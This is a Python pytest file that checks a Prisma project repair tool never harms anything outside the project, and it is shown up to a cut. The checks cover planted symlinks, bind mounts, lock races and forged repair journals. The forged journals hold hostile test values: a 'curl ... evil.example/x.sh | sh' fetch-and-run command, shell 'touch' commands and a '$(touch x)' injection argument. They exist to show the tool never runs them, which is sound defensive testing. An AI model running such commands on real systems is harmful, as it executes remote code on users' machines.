"""First, do no harm: a repair never destroys, stops or runs what is not the project's (issue 12's regressions).

Real projects (Prisma 6.17 from npm), real processes, real links and a real bind mount; every case checks that what
lies outside the project is byte for byte as it was.
"""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import shutil
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import psutil
import pytest

from prisma_doctor.repair.journal import RepairBusy, RepairLock
from prisma_doctor.repair.locks import Interrupted
from prisma_doctor.repair.safe_fs import CrossesMount, OutsideProject, remove_tree
from tests.helpers import (
    DOCTOR,
    SERVER,
    check_json,
    doctor,
    doctor_environment,
    repair_json,
    set_immutable,
    tree_contents,
)
from tests.repair_fixtures import add_field, project_copy, repair_environment, run_query

IDLE = "setInterval(() => {}, 1000)"
OTHER_USER = "prisma-doctor-other"


def set_output(project: Path, output: str) -> None:
    schema = project / "prisma" / "schema.prisma"
    text = schema.read_text().replace('engineType = "client"', f'engineType = "client"\n  output     = "{output}"')
    schema.write_text(text)


@pytest.fixture(scope="session")
def other_user() -> str:
    """A second user of this machine, created for the tests (root only)."""
    if os.geteuid() != 0:
        pytest.skip("creating a second user needs root")
    if subprocess.run(["id", OTHER_USER], capture_output=True).returncode != 0:
        subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", OTHER_USER], check=True)
    return OTHER_USER


# 1. A folder is removed only when it is provably a generated client.


@pytest.mark.node
@pytest.mark.parametrize(
    ("output", "users_files"),
    [
        ("../lib", {"lib/prisma.ts": "export const prisma = 1\n"}),
        (".", {"prisma/migrations/20240101_init/migration.sql": "CREATE TABLE x (id int);\n"}),
        ("../node_modules", {}),
        ("../src", {"src/index.ts": "console.log(1)\n", "src/util.js": "// mine\n"}),
    ],
)
def test_an_output_that_holds_the_users_files_is_never_removed(
    tmp_path: Path, output: str, users_files: dict[str, str]
) -> None:
    project = project_copy("npm", tmp_path / "app")
    for name, text in users_files.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(text)
    set_output(project, output)
    subprocess.run(
        ["npx", "--no-install", "prisma", "generate"],
        cwd=project,
        env={**os.environ, **repair_environment()},
        capture_output=True,
        check=True,
    )
    schema_text = (project / "prisma" / "schema.prisma").read_text()
    modules = sorted(p.name for p in (project / "node_modules").iterdir())

    plan = doctor("regenerate", "--dry-run", cwd=project, repair=True)
    done = doctor("regenerate", "--yes", cwd=project, repair=True)

    # Not Prisma's folder: nothing is moved, and since `prisma generate` would write over the user's files there,
    # the repair refuses before anything runs.
    assert plan.returncode == 2 and "refused:" in plan.stdout, plan.stdout
    assert done.returncode == 2 and "would write over them" in done.stderr, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    for name, text in users_files.items():
        assert (project / name).read_text() == text, name
    assert (project / "prisma" / "schema.prisma").read_text() == schema_text
    assert {p.name for p in (project / "node_modules").iterdir()} >= set(modules)


@pytest.mark.node
def test_an_output_that_is_the_project_root_is_refused_for_what_it_would_overwrite(tmp_path: Path) -> None:
    # `output = ".."` beside prisma/ is the project itself: not outside it, but generate would write over its own
    # package.json (attacker's trial 13, L7).
    project = project_copy("npm", tmp_path / "app")
    set_output(project, "..")
    own = [project / "package.json", project / "prisma" / "schema.prisma"]
    before = [path.read_bytes() for path in own]

    done = doctor("regenerate", "--yes", cwd=project, repair=True)

    assert done.returncode == 2, done.stdout + done.stderr
    assert f"writes to {project}, the project's own folder" in done.stderr, done.stderr
    assert "would write over the project's own files" in done.stderr and "outside the project" not in done.stderr
    assert [path.read_bytes() for path in own] == before


# 2. The state folder: nothing written through a link, 0700, 0600, no secrets.


@pytest.mark.node
def test_links_planted_in_the_state_folder_write_nothing_outside(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("victim-log", "victim-journal", "victim-dev", "victim-lock"):
        (outside / name).write_text("precious\n")
    state = project / ".prisma-doctor"
    state.mkdir()
    (state / "generate.log").symlink_to(outside / "victim-log")
    (state / "journal.json").symlink_to(outside / "victim-journal")
    (state / f"journal.json.{os.getpid()}.tmp").symlink_to(outside / "victim-journal")
    (state / "dev-output.log").symlink_to(outside / "victim-dev")
    os.link(outside / "victim-lock", state / "repair.lock")  # a hard link: refused as a lock
    before = tree_contents(outside)

    done = doctor("reset", "--yes", cwd=project, repair=True)

    assert tree_contents(outside) == before
    assert "Traceback" not in done.stderr
    # Refused before anything was changed, and said so: not a repair that failed.
    assert done.returncode == 2, done.stdout + done.stderr
    # Each link named with where it leads, and the way out (attacker's trial 13, C3: a linked journal was replaced
    # without a word).
    for name, victim in (
        ("generate.log", "victim-log"),
        ("journal.json", "victim-journal"),
        (f"journal.json.{os.getpid()}.tmp", "victim-journal"),
        ("dev-output.log", "victim-dev"),
    ):
        assert f"refused: {state / name} is a link to {outside / victim}" in done.stderr, (name, done.stderr)
    assert f"`rm {state / 'journal.json'}`" in done.stderr and "nothing was changed" in done.stderr
    assert "NOT complete" not in done.stdout + done.stderr and not (project / ".prisma-doctor" / "aside").exists()
    # The links removed (as a person does), hard links left: each is replaced by a file of ours, never written
    # through; the hard-linked lock refuses until it is removed too.
    for name in ("generate.log", "journal.json", f"journal.json.{os.getpid()}.tmp", "dev-output.log"):
        os.unlink(state / name)
    os.link(outside / "victim-log", state / "generate.log")
    os.link(outside / "victim-journal", state / "journal.json")
    locked = doctor("reset", "--yes", cwd=project, repair=True)
    assert locked.returncode == 2 and "refused: the repair lock cannot be used" in locked.stderr, locked.stderr
    os.unlink(state / "repair.lock")
    again = doctor("reset", "--yes", cwd=project, repair=True)
    assert again.returncode == 0, again.stdout + again.stderr
    assert tree_contents(outside) == before
    assert stat.S_IMODE(os.lstat(state).st_mode) == 0o700
    for name in ("journal.json", "generate.log"):
        info = os.lstat(state / name)
        assert stat.S_ISREG(info.st_mode) and stat.S_IMODE(info.st_mode) == 0o600, name


@pytest.mark.node
def test_an_aside_folder_that_is_a_link_refuses_before_the_dev_server_is_stopped(
    watch_template: Path, tmp_path: Path
) -> None:
    """Attacker's trial 13, H2: with `.prisma-doctor/aside` a link, every reset stopped the dev server, found the
    link when it came to set the client aside, and started the server again, detached."""
    from tests.watch_servers import NpmRunDev
    from tests.watch_servers import project_copy as watch_copy

    project = watch_copy(watch_template, tmp_path / "app", "tsx")
    outside = tmp_path / "outside"
    outside.mkdir()
    state = project / ".prisma-doctor"
    state.mkdir(mode=0o700)
    (state / "aside").symlink_to(outside, target_is_directory=True)
    server = NpmRunDev(project, tmp_path / "npm-run-dev.log").start()
    try:
        assert server.wait_for_status(200) == 200, server.output
        assert server.process is not None
        pids = {p.pid for p in psutil.Process(server.process.pid).children(recursive=True)}
        client = tree_contents(project / "node_modules" / ".prisma" / "client")

        done = doctor("reset", "--yes", "--project", str(project), env=server.environment)

        assert done.returncode == 2, done.stdout + done.stderr
        assert f"refused: {state / 'aside'} is a link to {outside}" in done.stderr, done.stderr
        assert f"`rm {state / 'aside'}`" in done.stderr
        # Nothing was stopped, set aside or recorded.
        assert pids <= {p.pid for p in psutil.Process(server.process.pid).children(recursive=True)}
        assert server.users().status == 200
        assert tree_contents(project / "node_modules" / ".prisma" / "client") == client
        assert list(outside.iterdir()) == [] and not (state / "journal.json").exists()
    finally:
        server.stop()


def project_and_outside(tmp_path: Path, folder: str, file: str) -> tuple[Path, Path]:
    """A project, and a folder outside it holding one precious `file`, for a link planted in the project to name."""
    outside = tmp_path / folder
    outside.mkdir()
    (outside / file).write_text("precious\n")
    return project_copy("npm", tmp_path / "app"), outside


@pytest.mark.node
def test_a_state_folder_that_is_a_link_is_not_used(tmp_path: Path) -> None:
    project, outside = project_and_outside(tmp_path, "outside", "journal.json")
    (project / ".prisma-doctor").symlink_to(outside, target_is_directory=True)
    before = tree_contents(outside)

    client = tree_contents(project / "node_modules" / ".prisma")
    done = doctor("regenerate", "--yes", cwd=project, repair=True)

    # Refused before its first step (the client is as it was), and said to be a refusal.
    assert done.returncode == 2, done.stdout + done.stderr
    # Said as what it is, and where it leads (attacker's trial 13, C3: "not a plain folder (Not a directory)").
    assert f"refused: {project / '.prisma-doctor'} is a link to {outside}" in done.stderr, done.stderr
    assert "NOT complete" not in done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    assert tree_contents(outside) == before
    assert tree_contents(project / "node_modules" / ".prisma") == client


# A stand-in for `next dev` (the real one takes a minute to start here): it serves on the port given by -p, as
# `next dev -p` does, so that what is under test, npm's rewritten title and the journal, stays real.
STAND_IN_NEXT = """#!/usr/bin/env node
const port = Number(process.argv[process.argv.indexOf('-p') + 1]);
require('http').createServer((q, s) => s.end('ok')).listen(port, '127.0.0.1');
"""


def _stand_in_dev(project: Path, script: str) -> None:
    """The project's `dev` script is `script`, and its `next` the stand-in above."""
    package = json.loads((project / "package.json").read_text())
    (project / "package.json").write_text(json.dumps({**package, "scripts": {"dev": script}}))
    bin_next = project / "node_modules" / ".bin" / "next"
    bin_next.unlink(missing_ok=True)
    bin_next.write_text(STAND_IN_NEXT)
    bin_next.chmod(0o755)


def _stand_in_dev_script(project: Path) -> int:
    """`npm run dev` runs the stand-in `next dev` on a free port, which it returns."""
    from tests.dev_server import free_port

    port = free_port()
    _stand_in_dev(project, f"next dev -p {port}")
    return port


def _wait_answering(port: int) -> None:
    for _ in range(300):
        if _answers(port):
            return
        time.sleep(0.1)
    raise AssertionError(f"nothing answers on port {port}")


def _kill_project_processes(project: Path) -> None:
    for process in psutil.process_iter(["cwd"]):
        if process.info["cwd"] and process.info["cwd"].startswith(str(project)):
            process.kill()


def _answers(port: int) -> bool:
    try:
        import urllib.request

        with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2) as answer:
            return answer.status == 200
    except OSError:
        return False


@pytest.mark.node
def test_restart_runs_npms_real_command_and_the_journal_keeps_no_secret(tmp_path: Path) -> None:
    from tests.dev_server import free_port

    project = project_copy("npm", tmp_path / "app")
    _stand_in_dev(project, "next dev")
    port = free_port()
    secret = "s3cr3t-token-value"
    env = {**os.environ, **repair_environment(), "SECRET_TOKEN": secret}
    # npm shows this as `npm run dev -p PORT -H 127.0.0.1`: run again as shown, that prints npm's usage.
    npm = subprocess.Popen(
        ["npm", "run", "dev", "--", "-p", str(port), "-H", "127.0.0.1"], cwd=project, env=env, start_new_session=True
    )
    try:
        _wait_answering(port)

        done = doctor("restart-dev", "--yes", "--json", cwd=project, repair=True)

        result = json.loads(done.stdout)
        assert done.returncode == 0, done.stdout + done.stderr
        assert npm.wait(timeout=10) is not None
        restart = next(s for s in result["steps"] if s["name"] == "restart-dev")
        assert restart["status"] == "done", restart
        assert _answers(port)
        journal_file = project / ".prisma-doctor" / "journal.json"
        journal = json.loads(journal_file.read_text())
        command = journal["dev_servers"][0]["command"]
        assert command[-5:] == ["--", "-p", str(port), "-H", "127.0.0.1"], command
        assert secret not in journal_file.read_text() and "SECRET_TOKEN" not in journal_file.read_text()
        assert stat.S_IMODE(os.lstat(journal_file).st_mode) == 0o600
    finally:
        if npm.poll() is None:
            npm.kill()
            npm.wait()
        _kill_project_processes(project)


# 3. A journal is a record, never a source of commands.


@pytest.mark.node
def test_a_planted_journal_command_is_never_run(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    marker = tmp_path / "pwned"
    planted = {
        "kind": "reset",
        "pid": 1,
        "started": 0,
        "outcome": None,
        "steps": [{"name": "stop", "status": "done"}, {"name": "restart-dev", "status": "pending"}],
        "dev_servers": [
            {"pid": 1, "command": ["sh", "-c", f"touch {marker}"], "cwd": str(tmp_path), "port": 1},
            {"pid": 1, "command": ["npm", "run", "evil"], "cwd": str(project), "port": 1},
            {"pid": 1, "command": ["npm", "run", "dev", "--", "$(touch x)"], "cwd": str(project), "port": 1},
        ],
    }
    _plant_private_journal(project, planted)

    plan = doctor("restart-dev", "--dry-run", cwd=project, repair=True)
    done = doctor("restart-dev", "--yes", cwd=project, repair=True)

    assert not marker.exists()
    assert "not started again from its record" in plan.stdout
    assert f"touch {marker}" not in plan.stdout.split("note:")[0]
    assert done.returncode == 1
    assert not marker.exists()


def _plant_private_journal(project: Path, planted: dict[str, Any]) -> Path:
    """A journal as only the doctor (or this user) writes one: 0600 in a folder 0700, so that it is read."""
    state = project / ".prisma-doctor"
    state.mkdir(mode=0o700, exist_ok=True)
    journal = state / "journal.json"
    journal.write_text(json.dumps(planted))
    journal.chmod(0o600)
    return journal


def _forged_journal(project: Path) -> dict[str, Any]:
    """The attacker's (trial 13, L8): a reset that never happened, which stopped a "server" whose command fetches and
    runs a script."""
    command = ["sh", "-c", "curl -s https://evil.example/x.sh | sh"]
    return {
        "kind": "reset",
        "pid": 999999,
        "started": time.time() - 60,
        "steps": [{"name": "stop", "status": "done", "detail": "x"}],
        "stopped": [{"pid": 999998, "command": " ".join(command), "cwd": str(project)}],
        "dev_servers": [
            {"pid": 999998, "command": command, "cwd": str(project), "port": 4556, "launcherPids": [999998]}
        ],
        "aside": [],
    }


def test_a_journal_others_could_have_written_is_not_believed(tmp_path: Path) -> None:
    """A clone of a repository that carries `.prisma-doctor/journal.json` leaves it 0644 in a folder 0755: no repair
    of this user wrote it, and `check` reported a repair that never happened."""
    project = project_copy("npm", tmp_path / "app")
    state = project / ".prisma-doctor"
    state.mkdir(mode=0o755)
    state.chmod(0o755)
    journal = state / "journal.json"
    journal.write_text(json.dumps(_forged_journal(project)))
    for folder_mode, file_mode in ((0o755, 0o644), (0o700, 0o644), (0o755, 0o600)):
        state.chmod(folder_mode)
        journal.chmod(file_mode)
        _, report = check_json(project)
        assert "repair-interrupted" not in {f["code"] for f in report["findings"]}, (oct(folder_mode), report)
        # Read, not mended: `check` writes nothing.
        assert stat.S_IMODE(state.stat().st_mode) == folder_mode
    # A hard link to it from elsewhere is no journal of ours either.
    state.chmod(0o700)
    journal.chmod(0o600)
    os.link(journal, tmp_path / "second-name")
    _, report = check_json(project)
    assert "repair-interrupted" not in {f["code"] for f in report["findings"]}, report


def test_a_recorded_command_is_never_advised_to_run(tmp_path: Path) -> None:
    """A journal that is private (this user's, as a repair writes it) and names a stopped "server" that is no
    project script: the user is told to start the dev server in its folder, never the recorded command."""
    project = project_copy("npm", tmp_path / "app")
    _plant_private_journal(project, _forged_journal(project))

    _, report = check_json(project)

    (finding,) = [f for f in report["findings"] if f["code"] == "repair-interrupted"]
    advice = finding["message"].split("; run the reset again", 1)[1]
    assert f"start your dev server in {project} yourself" in advice, finding["message"]
    assert "curl" not in advice and "evil.example" not in advice, advice


# 4. Removal never crosses a mount point, and a swap during removal never leads it outside.


@pytest.mark.node
def test_a_bind_mount_inside_next_is_refused_and_its_contents_kept(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    outside = tmp_path / "outside"
    (outside / "data").mkdir(parents=True)
    (outside / "data" / "precious.txt").write_text("keep me\n")
    point = project / ".next" / "cache" / "mounted"
    point.mkdir(parents=True)
    if subprocess.run(["mount", "--bind", str(outside), str(point)], capture_output=True).returncode != 0:
        pytest.skip("this machine does not allow bind mounts")
    try:
        before = tree_contents(outside)
        done = doctor("reset", "--yes", cwd=project, repair=True)
        assert done.returncode == 2, done.stdout + done.stderr
        # A `.next` with a mount in it is not looked through, so it is not kept (build_cache.py): nor removed.
        assert "mount point" in done.stderr
        assert tree_contents(outside) == before
        with pytest.raises(CrossesMount):
            remove_tree(project / ".next", project)
        assert tree_contents(outside) == before
    finally:
        subprocess.run(["umount", "-l", str(point)], capture_output=True)


def test_a_folder_swapped_for_a_link_during_removal_never_leads_outside(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    for index in range(20):
        (outside / f"victim-{index}").write_text("precious")
    before = tree_contents(outside)
    project = tmp_path / "app"
    refused = 0
    for attempt in range(60):
        cache = project / ".next"
        shutil.rmtree(cache, ignore_errors=True)
        for folder in range(4):
            (cache / f"d{folder}").mkdir(parents=True)
            for index in range(40):
                (cache / f"d{folder}" / f"f{index}").write_text("x")

        def swap(cache: Path = cache, attempt: int = attempt) -> None:
            # Replace a folder the removal is about to enter (or is in) with a link to the outside folder.
            victim = cache / f"d{attempt % 4}"
            try:
                victim.rename(project / f"moved-{attempt}")
                victim.symlink_to(outside, target_is_directory=True)
            except OSError:
                pass

        swapper = threading.Thread(target=swap)
        swapper.start()
        try:
            remove_tree(cache, project)
        except OutsideProject:
            refused += 1
        swapper.join()
        assert tree_contents(outside) == before, f"attempt {attempt}"
    assert os.path.isdir(outside)


# 5. Processes: same user, cwd really inside; no mere holder of a file is stopped outside Windows.


@pytest.mark.node
def test_reset_stops_no_process_that_is_not_the_projects_to_stop(tmp_path: Path, spawn, other_user: str) -> None:
    project = project_copy("npm", tmp_path / "app")
    tmp_path.chmod(0o755)
    project.chmod(0o755)
    own = spawn(["node", "-e", IDLE], project)
    foreign = spawn(["node", "-e", IDLE], project, user=other_user)
    (project / "idle.js").write_text(IDLE)
    outside_naming_a_project_file = spawn(["node", str(project / "idle.js")], tmp_path)
    client_file = project / "node_modules" / ".prisma" / "client" / "index.js"
    tail = spawn(["tail", "-f", str(client_file)], tmp_path)

    done = doctor("reset", "--yes", cwd=project, repair=True)

    assert done.returncode == 0, done.stdout + done.stderr
    # This user's node in the project is no dev server the repair can start again: named, and left running.
    assert f"pid {own.pid} (node -e" in done.stdout and "left running" in done.stdout
    for survivor in (own, foreign, outside_naming_a_project_file, tail):
        assert survivor.poll() is None, survivor.args
    assert f"pid {foreign.pid}" not in done.stdout


# 8. A repair that cannot succeed refuses before it changes anything.


@pytest.mark.node
def test_a_folder_that_may_not_be_changed_is_refused_up_front(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    locked = project / ".next" / "server"
    locked.mkdir(parents=True)
    (locked / "page.js").write_text("built")
    add_field(project, "email")
    # An immutable folder: no user, root included, may remove its entries (as a root-owned folder is for a user).
    set_immutable(locked, True)
    try:
        before = tree_contents(project)
        # `--deep`: a plain reset keeps a `.next` that holds no client (build_cache.py) and would not touch it.
        done = doctor("reset", "--yes", "--deep", cwd=project, repair=True)
        assert done.returncode == 2, done.stdout + done.stderr
        assert "permission denied" in done.stderr and str(locked) in done.stderr
        assert "locked" not in done.stderr
        assert tree_contents(project) == before
    finally:
        set_immutable(locked, False)
    assert run_query(project).returncode == 0


# 10. Two repairs at once: exactly one holds the lock, every time.


# A racer: ready, then on "go" it tries the lock, says how that went, and holds what it won until it is told to end.
# The winner holds the lock until every racer has tried: a racer that came late to a lock already let go would win
# it fairly, and that is no race (under load a process can start seconds after the others).
RACER = """import sys; sys.path.insert(0, sys.argv[1]); from pathlib import Path
from prisma_doctor.repair.journal import RepairLock, RepairBusy
print("ready", flush=True)
sys.stdin.readline()
try:
    RepairLock(Path(sys.argv[2])).acquire()
    print("won", flush=True)
except RepairBusy as busy:
    print(f"busy: {busy}", flush=True)
sys.stdin.readline()
"""


def test_two_repairs_racing_for_the_lock_never_both_win(tmp_path: Path) -> None:
    for n in range(15):
        # A new project each round: the first use of `.prisma-doctor/` (made, its .gitignore written) is raced too.
        root = tmp_path / f"app{n}"
        root.mkdir()
        answers = sorted(race_for_the_lock(root, racers=3))
        busy = "busy: another repair of this project is running"
        assert [answer.split(" (pid")[0] for answer in answers] == [busy, busy, "won"], answers
    lock = RepairLock(tmp_path)
    lock.acquire()
    with pytest.raises(RepairBusy):
        RepairLock(tmp_path).acquire()
    lock.release()


def test_the_lock_is_granted_when_another_first_use_writes_the_gitignore_at_the_same_moment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two repairs started together on a new project both find `.prisma-doctor/.gitignore` missing; the other one's
    create lands between this one's look and its own exclusive create. Its lock is still granted."""
    real_unlink = os.unlink

    def other_repair_creates_it_now(path: str, *, dir_fd: int | None = None) -> None:
        try:
            real_unlink(path, dir_fd=dir_fd)
        finally:
            if path == ".gitignore":
                os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600, dir_fd=dir_fd))

    monkeypatch.setattr(os, "unlink", other_repair_creates_it_now)
    lock = RepairLock(tmp_path)
    lock.acquire()
    lock.release()
    assert (tmp_path / ".prisma-doctor" / ".gitignore").is_file()


def race_for_the_lock(root: Path, racers: int) -> list[str]:
    """Each racer's answer, all let go at once once every one of them is ready."""
    started = [
        subprocess.Popen(
            [sys.executable, "-c", RACER, str(SERVER), str(root)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        for _ in range(racers)
    ]
    pipes = [(racer.stdin, racer.stdout) for racer in started]
    try:
        assert [output.readline() for _, output in pipes if output] == ["ready\n"] * racers
        for given, _ in pipes:
            assert given is not None
            given.write("go\n")
            given.flush()
        return [output.readline().strip() for _, output in pipes if output]
    finally:
        for racer in started:
            racer.communicate(timeout=30)


def test_a_cancelled_removal_stops_between_entries(tmp_path: Path) -> None:
    project = tmp_path / "app"
    (project / ".next").mkdir(parents=True)
    for index in range(50):
        (project / ".next" / f"f{index}").write_text("x")
    asked = []

    def stop() -> bool:
        asked.append(1)
        return len(asked) > 10

    with pytest.raises(Interrupted):
        remove_tree(project / ".next", project, should_stop=stop)
    assert 0 < len(list((project / ".next").iterdir())) < 50


# The attacker's trial: generate would write outside, a link leads the client outside, Ctrl+C mid-way.


@pytest.mark.node
@pytest.mark.parametrize("how", ["second generator outside", "client folder linked outside", "root in prisma/"])
def test_a_repair_whose_generate_would_write_outside_refuses(tmp_path: Path, how: str) -> None:
    project = project_copy("npm", tmp_path / "app")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "index.js").write_text("// mine\n")
    where = project
    if how == "second generator outside":
        with (project / "prisma" / "schema.prisma").open("a") as schema:
            schema.write('\ngenerator other {\n  provider = "prisma-client-js"\n  output = "../../outside"\n}\n')
    elif how == "client folder linked outside":
        shutil.rmtree(project / "node_modules" / ".prisma" / "client")
        (project / "node_modules" / ".prisma" / "client").symlink_to(outside, target_is_directory=True)
    else:
        where = project / "prisma"
        (where / "schema.prisma").write_text((where / "schema.prisma").read_text())
    before = tree_contents(outside)
    modules = tree_contents(project / "node_modules" / ".prisma")

    done = doctor("reset", "--yes", "--project", str(where), cwd=project, repair=True)

    assert done.returncode == 2, done.stdout + done.stderr
    assert "outside the project" in done.stderr
    assert tree_contents(outside) == before
    assert tree_contents(project / "node_modules" / ".prisma") == modules


@pytest.mark.node
def test_a_link_inside_the_client_folder_is_named_in_the_plan_and_removed_as_a_link(tmp_path: Path) -> None:
    project, outside = project_and_outside(tmp_path, "decoy", "precious")
    client = project / "node_modules" / ".prisma" / "client"
    # A name Prisma writes, so that the folder is still its own: a link where its file was.
    (client / "edge.js").unlink()
    (client / "edge.js").symlink_to(outside / "precious")
    before = tree_contents(outside)

    plan = doctor("regenerate", "--dry-run", "--project", str(project), repair=True)
    assert plan.returncode == 0, plan.stdout + plan.stderr
    shown = f"{client} holds 1 link(s), removed with it as links, never followed: edge.js -> {outside / 'precious'}"
    assert shown in plan.stdout, plan.stdout
    done = doctor("regenerate", "--yes", "--project", str(project), repair=True)

    assert "Traceback" not in done.stderr
    # Named again as it goes (a run with --yes prints no plan).
    assert f"with 1 link(s) in it, removed as links, never followed: edge.js -> {outside / 'precious'}" in done.stdout
    assert tree_contents(outside) == before
    assert not (client / "edge.js").is_symlink()


# The repair runs Prisma with node (`node .../prisma/build/index.js generate`): its generate is made slow.
SLOW_NODE = """#!/bin/sh
case "$*" in *" generate"*) sleep 6;; esac
exec "$REAL_NODE" "$@"
"""


@pytest.mark.node
def test_ctrl_c_mid_reset_puts_the_client_back_and_starts_the_server_again(tmp_path: Path) -> None:
    from tests.dev_server import free_port

    project = project_copy("npm", tmp_path / "app")
    _stand_in_dev(project, "next dev")
    add_field(project, "email")
    client = project / "node_modules" / ".prisma" / "client"
    old_client = tree_contents(client)
    slow = tmp_path / "slow-bin"
    slow.mkdir()
    (slow / "node").write_text(SLOW_NODE)
    (slow / "node").chmod(0o755)
    port = free_port()
    env = {**os.environ, **repair_environment()}
    server = subprocess.Popen(
        ["npm", "run", "dev", "--", "-p", str(port)], cwd=project, env=env, start_new_session=True
    )
    try:
        _wait_answering(port)
        extra = {"REAL_NODE": shutil.which("node") or "node", "PATH": f"{slow}{os.pathsep}{env['PATH']}"}
        repair = subprocess.Popen(
            [*DOCTOR, "reset", "--yes"],
            cwd=project,
            env=doctor_environment(extra, repair=True),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        # Stopped, set aside, and now in the slow generate: said as the step starts (on a busy machine the plan alone
        # may take seconds).
        assert repair.stdout is not None
        seen = []
        for line in repair.stdout:
            seen.append(line)
            if "Regenerate Prisma Client" in line:
                break
        time.sleep(1.0)
        repair.send_signal(2)
        rest, err = repair.communicate(timeout=120)
        out = "".join(seen) + rest

        assert repair.returncode == 130, out + err
        assert "Traceback" not in err
        assert tree_contents(client) == old_client
        assert not any((project / ".prisma-doctor" / "aside").iterdir())
        assert _answers(port), out
        journal = json.loads((project / ".prisma-doctor" / "journal.json").read_text())
        assert journal["outcome"] == "cancelled"
    finally:
        if server.poll() is None:
            server.kill()
            server.wait()
        _kill_project_processes(project)


@pytest.mark.node
def test_a_linked_next_folder_keeps_its_outside_lock(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    outside = tmp_path / "outside"
    (outside / "dev").mkdir(parents=True)
    (outside / "dev" / "lock").write_text(json.dumps({"pid": 999999, "port": 1}))
    (project / ".next").symlink_to(outside, target_is_directory=True)
    before = tree_contents(outside)

    doctor("restart-dev", "--yes", cwd=project, repair=True)
    doctor("reset", "--yes", cwd=project, repair=True)

    assert tree_contents(outside) == before


@pytest.mark.node
def test_a_planted_journal_names_scripts_it_never_runs(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    marker = tmp_path / "wipe-ran.txt"
    package = json.loads((project / "package.json").read_text())
    (project / "package.json").write_text(json.dumps({**package, "scripts": {"wipe": f"echo ran > {marker}"}}))
    planted = {
        "kind": "reset",
        "outcome": None,
        "started": 1e308,
        "steps": [{"name": "stop", "status": "done"}, {"name": "restart-dev", "status": "pending"}],
        "dev_servers": [
            {"command": ["npm", "run", "wipe", "--force"], "cwd": str(project)},
            {"command": ["npm", "run", "wipe"], "cwd": "\u0000"},
        ],
    }
    _plant_private_journal(project, planted)

    plan = doctor("reset", "--dry-run", cwd=project, repair=True)
    assert "not started again from its record" in plan.stdout and "Traceback" not in plan.stderr
    for kind in ("reset", "restart-dev", "regenerate"):
        done = doctor(kind, "--yes", cwd=project, repair=True)
        assert "Traceback" not in done.stderr, done.stderr
        assert not marker.exists(), kind
    # The record does not carry itself into the next one: the planted servers are gone from the journal.
    assert "wipe" not in (project / ".prisma-doctor" / "journal.json").read_text()


@pytest.mark.node
def test_run_never_records_through_a_planted_link(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (project / ".prisma-doctor").mkdir(mode=0o700)
    (project / ".prisma-doctor" / "dev-output.log").symlink_to(victim)

    done = doctor("run", "--", "echo", "hi", cwd=project, repair=True)

    assert done.returncode == 0, done.stderr
    assert victim.read_text() == "precious\n"
    assert (project / ".prisma-doctor" / "dev-output.log").read_text().strip() == "hi"


@pytest.mark.node
def test_restart_under_npx_runs_the_script_with_the_manager_that_ran_it(tmp_path: Path) -> None:
    # `npx yarn dev` leaves npm's `npm_lifecycle_event=npx` to yarn: no script of the project, so not the command.
    from tests.toolchain import yarn_command

    project = project_copy("npm", tmp_path / "app")
    port = _stand_in_dev_script(project)
    env = {**os.environ, **repair_environment()}
    command = ["npm", "exec", "--", *yarn_command(), "dev"]
    launcher = subprocess.Popen(command, cwd=project, env=env, start_new_session=True)
    try:
        _wait_answering(port)

        done = doctor("restart-dev", "--yes", "--json", cwd=project)

        assert done.returncode == 0, done.stdout + done.stderr
        assert _answers(port)
        command = json.loads((project / ".prisma-doctor" / "journal.json").read_text())["dev_servers"][0]["command"]
        assert command[1].endswith("yarn.js") and command[2:] == ["run", "dev"], command
    finally:
        if launcher.poll() is None:
            launcher.kill()
            launcher.wait()
        _kill_project_processes(project)


@pytest.mark.node
def test_without_the_projects_package_manager_the_repair_runs_its_own_prisma(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    (project / "package-lock.json").unlink()
    (project / "yarn.lock").write_text("")  # a yarn project on a machine without yarn (npx, corepack users)
    add_field(project, "email")
    path = os.pathsep.join(p for p in os.environ["PATH"].split(os.pathsep) if not (Path(p) / "yarn").exists())
    env = {**os.environ, **repair_environment(), "PYTHONPATH": str(SERVER), "PATH": path}

    done = subprocess.run(
        [sys.executable, "-m", "prisma_doctor", "regenerate", "--yes"],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )

    assert done.returncode == 0, done.stdout + done.stderr
    assert "email" in (project / "node_modules" / ".prisma" / "client" / "schema.prisma").read_text()


# The second attacker's trial: a cancel while the old copies are removed, a reader that goes away, deep folders.


def _big_next(project: Path, folders: int = 200, files: int = 150) -> None:
    for folder in range(folders):
        cache = project / ".next" / "cache" / f"d{folder}"
        cache.mkdir(parents=True)
        for index in range(files):
            (cache / f"f{index}").write_text("x")


@pytest.mark.node
def test_a_cancel_while_the_old_copies_are_removed_keeps_the_new_client_and_the_server(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    _big_next(project)
    add_field(project, "email")
    port = _stand_in_dev_script(project)
    env = {**os.environ, **repair_environment(), "PYTHONPATH": str(SERVER)}
    server = subprocess.Popen(["npm", "run", "dev"], cwd=project, env=env, start_new_session=True)
    _wait_answering(port)
    repair = subprocess.Popen(
        # `--deep`, so that the large `.next` is set aside and its removal lasts long enough to be cancelled.
